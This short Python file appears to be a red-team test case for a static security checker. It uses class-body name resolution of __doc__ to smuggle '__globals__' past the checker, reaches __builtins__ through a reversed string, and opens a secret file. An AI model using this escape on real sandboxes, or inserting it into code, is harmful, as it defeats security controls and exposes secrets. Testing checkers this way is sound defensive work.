# family: red team, round 15 (scopes: nonlocal, name mangling, class bodies, global in blocks, getattr tables)
"""__globals__"""
# Chain: in a class body `__doc__` (a definable dunder) is a loop variable over ("name",); the checker resolves
# a class-body name to the class bindings plus module bindings (none here), so getattr(fn, __doc__) is judged
# as fn.name. But the getattr runs before the loop: LOAD_NAME falls through to the module global __doc__,
# the module docstring, which the checker never scans (definitions._docstring marks it judged) -> "__globals__".
def helper():
    return 1


class C:
    grabbed = getattr(helper, __doc__)
    for __doc__ in ("name",):
        pass


g = C.grabbed
print(sorted(g.keys())[:6])
print(getattr(g["".join(reversed("__snitliub__"))], "open")("/tmp/r15/work/secret.txt").read())
